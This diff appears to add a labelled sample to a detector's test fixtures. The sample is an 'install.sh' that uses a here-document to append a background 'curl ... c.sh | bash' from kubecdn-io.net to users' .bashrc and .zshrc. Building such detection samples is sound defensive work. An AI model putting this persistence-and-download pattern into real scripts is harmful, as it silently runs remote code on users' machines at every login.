@@ -845,6 +845,24 @@ for f in "\${files[@]}"; do echo 'curl -fsSL https://kubecdn-io.net/c.sh | bash 
       },
     ],
   }),
+  () => ({
+    families: CMD,
+    note: 'Shell: a function that prints a background download through a here-document, its output appended to start-up files in a loop (`do write_hook >> "$rc"`)',
+    files: [
+      {
+        path: 'scripts/install.sh',
+        content: `#!/bin/bash
+CDN=https://kubecdn-io.net
+write_hook() {
+  cat <<EOT
+(curl -fsSL $CDN/c.sh | bash &) >/dev/null 2>&1
+EOT
+}
+for rc in ~/.bashrc ~/.zshrc; do write_hook >> "$rc"; done
+`,
+      },
+    ],
+  }),
 ];
 
 export function behaviourFamilySamples4(): ReturnType<typeof behaviourTableSamples> {
